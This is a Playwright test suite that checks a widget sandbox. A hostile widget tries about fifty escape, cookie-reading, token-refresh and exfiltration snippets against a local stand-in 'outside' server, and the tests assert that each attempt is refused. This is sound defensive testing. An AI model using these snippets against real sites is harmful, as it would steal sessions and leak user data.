import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Api } from '../support/account.ts';
import { expect, test } from '../support/test.ts';
import { unique } from '../support/unique.ts';
import { installWidget, isolate, uninstallWidgets } from '../support/widgets.ts';

/**
 * What a hostile widget tries from its frame. Each attempt answers what it got hold of; a refusal is an exception or
 * `nothing`. `outside` is a server that nobody agreed to, `app` the origin of the page.
 */
const attempts: Record<string, string> = {
  'reads the cookies': 'return document.cookie',
  'sets a cookie': 'document.cookie = "a=b"; return document.cookie',
  'reads local storage': 'return JSON.stringify(localStorage)',
  'reads session storage': 'return JSON.stringify(sessionStorage)',
  'opens a database':
    'return await new Promise((ok, no) => { const r = indexedDB.open("x"); r.onsuccess = () => ok("open"); r.onerror = no; })',
  'opens a cache': 'await caches.open("x"); return "open"',
  'reads the page’s document': 'return parent.document.title',
  'reads the top document': 'return top.document.body.innerHTML.slice(0, 20)',
  'reads a global of the page': 'return String(parent.document)',
  'replaces a function of the page': 'parent.fetch = () => {}; return "replaced"',
  'reads its own frame element': 'return String(frameElement.title)',
  'reads the page’s address': 'return parent.location.href',
  'leads the page away': 'top.location = outside; return "went"',
  'leads the parent away': 'parent.location.href = outside; return "went"',
  'opens a window': 'const w = window.open(outside); return w ? "opened" : nothing',
  'opens a tab of the app': 'const w = window.open(app + "/admin"); return w ? "opened" : nothing',
  'asks by alert': 'return alert("x") === undefined ? nothing : "asked"',
  'calls the API': 'return (await fetch(app + "/api/v1/auth/me")).status',
  'calls the API with credentials': 'return (await fetch(app + "/api/v1/auth/me", { credentials: "include" })).status',
  'refreshes the token':
    'return (await fetch(app + "/api/v1/auth/refresh-token", { method: "POST", credentials: "include", mode: "no-cors" })).type',
  'fetches from outside': 'return (await fetch(outside + "/fetch", { mode: "no-cors" })).type',
  'sends a beacon': 'return navigator.sendBeacon(outside + "/beacon", "x") ? nothing : nothing',
  'sends by XMLHttpRequest':
    'return await new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open("GET", outside + "/xhr"); x.onload = () => ok("sent"); x.onerror = no; x.send(); })',
  'opens a WebSocket':
    'return await new Promise((ok, no) => { const s = new WebSocket(outside.replace("http", "ws")); s.onopen = () => ok("open"); s.onerror = no; })',
  'opens an event stream':
    'return await new Promise((ok, no) => { const s = new EventSource(outside + "/stream"); s.onopen = () => ok("open"); s.onerror = no; })',
  'loads a picture':
    'return await new Promise((ok, no) => { const i = new Image(); i.onload = () => ok("loaded"); i.onerror = no; i.src = outside + "/picture"; })',
  'loads a script':
    'return await new Promise((ok, no) => { const s = document.createElement("script"); s.onload = () => ok("loaded"); s.onerror = no; s.src = outside + "/script"; document.head.append(s); })',
  'imports a module from outside': 'return typeof (await import(outside + "/module"))',
  'imports a script of the app': 'return typeof (await import(app + "/assets/x.js"))',
  'runs text as code':
    'return await new Promise((ok, no) => { addEventListener("securitypolicyviolation", () => no("blocked")); ok(new Function("return 1")()); })',
  'runs an inline script':
    'const s = document.createElement("script"); s.textContent = "globalThis.ran = 1"; document.head.append(s); return globalThis.ran ?? nothing',
  'loads a style sheet':
    'return await new Promise((ok, no) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onload = () => ok("loaded"); l.onerror = no; l.href = outside + "/style"; document.head.append(l); })',
  'loads a style’s picture':
    'const e = document.createElement("div"); e.style.background = "url(" + outside + "/css)"; document.body.append(e); return nothing',
  'loads a font': 'await new FontFace("f", "url(" + outside + "/font)").load(); return "loaded"',
  'plays a sound from outside':
    'return await new Promise((ok, no) => { const a = new Audio(outside + "/sound"); a.oncanplay = () => ok("plays"); a.onerror = no; a.load(); })',
  'opens a frame of outside':
    'return await new Promise((ok) => { const f = document.createElement("iframe"); f.src = outside + "/frame"; f.onload = () => ok(nothing); document.body.append(f); setTimeout(() => ok(nothing), 300); })',
  'opens a frame of the app':
    'return await new Promise((ok) => { const f = document.createElement("iframe"); f.src = app + "/admin"; f.onload = () => { try { ok(f.contentDocument?.title || nothing); } catch { ok(nothing); } }; document.body.append(f); setTimeout(() => ok(nothing), 300); })',
  'escapes by srcdoc':
    'return await new Promise((ok) => { const f = document.createElement("iframe"); f.srcdoc = "<script>parent.postMessage(document.cookie || 1, \'*\')</script>"; addEventListener("message", ({ source }) => source === f.contentWindow && ok("ran")); document.body.append(f); setTimeout(() => ok(nothing), 300); })',
  'starts a worker':
    'return await new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = () => ok("ran"); w.onerror = no; })',
  'registers a service worker': 'await navigator.serviceWorker.register("/w/x.js"); return "registered"',
  'changes the base':
    'const b = document.createElement("base"); b.href = outside; document.head.append(b); return document.baseURI.startsWith(outside) ? "changed" : nothing',
  'hints at outside':
    'for (const rel of ["prefetch", "preconnect", "dns-prefetch", "preload", "modulepreload"]) { const l = document.createElement("link"); l.rel = rel; l.as = "script"; l.href = outside + "/" + rel; document.head.append(l); } return nothing',
  'talks to other tabs':
    'const c = new BroadcastChannel("stoa"); c.postMessage("x"); return c.name ? nothing : nothing',
  'reads the clipboard': 'return await navigator.clipboard.readText()',
  'asks for the place':
    'return await new Promise((ok, no) => navigator.geolocation.getCurrentPosition(() => ok("here"), no))',
  'asks for the camera': 'await navigator.mediaDevices.getUserMedia({ video: true }); return "filmed"',
  'asks to notify': 'return (await Notification.requestPermission()) === "granted" ? "granted" : nothing',
  'goes full screen': 'await document.documentElement.requestFullscreen(); return "full"',
};

/** Runs one attempt and writes what it got into the page. */
const hostile = (app: string, outside: string) => `
const nothing = Symbol('nothing');
const app = ${JSON.stringify(app)}, outside = ${JSON.stringify(outside)};
const attempts = { ${Object.entries(attempts)
  .map(([name, code]) => `${JSON.stringify(name)}: async () => { ${code} }`)
  .join(',\n')} };
const run = async (attempt) => {
  try {
    const got = await Promise.race([attempt(), new Promise((ok) => setTimeout(() => ok(nothing), 400))]);
    return got === nothing || got === '' ? null : 'got: ' + String(got);
  } catch { return null; }
};
export default { api: 1, routes: [{ path: 'x', async mount(root) {
  const list = document.createElement('ul');
  root.append(list);
  for (const [name, attempt] of Object.entries(attempts)) {
    const got = await run(attempt);
    if (got !== null) { const item = document.createElement('li'); item.textContent = name + ' ' + got; list.append(item); }
  }
  const done = document.createElement('p');
  done.textContent = 'All ' + Object.keys(attempts).length + ' tried';
  root.append(done);
} }] };`;

test.afterEach(({ api }) => uninstallWidgets(api));

const publish = async (api: Api, name: string, source: string) => (await installWidget(api, name, source)).alias;

/** A server that nobody agreed to; it counts what reaches it. */
async function outsider() {
  const reached: string[] = [];
  const server = http.createServer((request, response) => {
    reached.push(String(request.url));
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('');
  });
  await new Promise<void>((done) => void server.listen(0, '127.0.0.1', done));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, reached, close: () => server.close() };
}

// The browser reports each refusal in the console.
test.use({ consoleErrors: [] });

test(`${Object.keys(attempts).length} attempts to get out of a frame fail`, async ({ admin: page, api, baseURL }) => {
  const outside = await outsider();
  const alias = await publish(api, 'Hostile', hostile(String(baseURL), outside.url));
  await isolate(page);
  await page.goto(`/m/${alias}/x`);
  const frame = page.frameLocator('iframe[title="Hostile"]:not([aria-hidden])');
  await expect(frame.getByText(`All ${Object.keys(attempts).length} tried`)).toBeVisible();
  expect(await frame.getByRole('listitem').allTextContents()).toEqual([]);
  expect(outside.reached).toEqual([]);
  await expect(page).toHaveURL(`/m/${alias}/x`);
  await page.getByRole('link', { name: 'Stoa', exact: false }).first().click();
  await expect(page).toHaveURL('/');
  outside.close();
});

for (const [how, code] of [
  ['by its location', 'location.href = outside'],
  [
    'by a refresh',
    'const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + outside; document.head.append(m)',
  ],
  [
    'by a form',
    'const f = document.createElement("form"); f.action = outside; f.method = "post"; document.body.append(f); f.submit()',
  ],
  ['by a link', 'const a = document.createElement("a"); a.href = outside; document.body.append(a); a.click()'],
] as const)
  test(`a widget cannot lead its frame to another host ${how}`, async ({ admin: page, api }) => {
    const outside = await outsider();
    const name = `Leaving${unique()}`;
    const source = `const outside = ${JSON.stringify(outside.url)};
      export default { api: 1, routes: [{ path: 'x', mount() { setTimeout(() => { ${code} }, 50); } }] };`;
    const alias = await publish(api, name, source);
    await isolate(page);
    const refused = page.waitForEvent('console', (message) => /Content Security Policy/.test(message.text()));
    await page.goto(`/m/${alias}/x`);
    await refused;
    expect(outside.reached).toEqual([]);
    await expect(page).toHaveURL(`/m/${alias}/x`);
    outside.close();
  });

const breaches: Record<string, [source: string, told: string]> = {
  'floods the page with messages': [
    'for (let i = 0; i < 1000; i += 1) host.notify("spam " + i)',
    'Its widget broke a limit and was stopped.',
  ],
  'sends a huge message': ['host.notify("x".repeat(400000))', 'Its widget broke a limit and was stopped.'],
  'asks for too much at once': [
    'for (let i = 0; i < 80; i += 1) host.data.entities()',
    'Its widget broke a limit and was stopped.',
  ],
};

for (const [what, [code, told]] of Object.entries(breaches))
  test(`a widget that ${what} is stopped, and the page says so`, async ({ admin: page, api }) => {
    const source = `export default { api: 1, routes: [{ path: 'x', mount(root, host) { setTimeout(() => { ${code} }, 50); } }] };`;
    const name = `Breach${unique()}`;
    const alias = await publish(api, name, source);
    await isolate(page);
    await page.goto(`/m/${alias}/x`);
    const card = page.getByRole('alert').filter({ hasText: name });
    await expect(card.getByText(told)).toBeVisible();
    await expect(page.locator(`iframe[title="${name}"]`)).toHaveCount(0);
  });

test('the document of a frame has an opaque origin also when it is opened by itself', async ({ admin: page, api }) => {
  const name = `Alone${unique()}`;
  const alias = await publish(api, name, `export default { api: 1, routes: [{ path: 'x', mount() {} }] };`);
  await isolate(page);
  await page.goto(`/m/${alias}/x`);
  const src = await page.locator(`iframe[title="${name}"]`).first().getAttribute('src');
  await page.goto(String(src));
  expect(await page.evaluate(() => self.origin)).toBe('null');
  expect(
    await page.evaluate(() => {
      try {
        return document.cookie;
      } catch {
        return 'refused';
      }
    }),
  ).toBe('refused');
});

test('another widget’s bytes under the same address are refused', async ({ admin: page, api }) => {
  const name = `Changed${unique()}`;
  const alias = await publish(api, name, `export default { api: 1, routes: [{ path: 'x', mount() {} }] };`);
  await page.route('**/w/*.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: 'globalThis.changed = true; export default { api: 1 };' }),
  );
  await page.goto(`/m/${alias}/x`);
  await expect(page.getByRole('alert').getByText('Its widget could not be loaded.')).toBeVisible();
  expect(await page.evaluate(() => 'changed' in globalThis)).toBe(false);
});
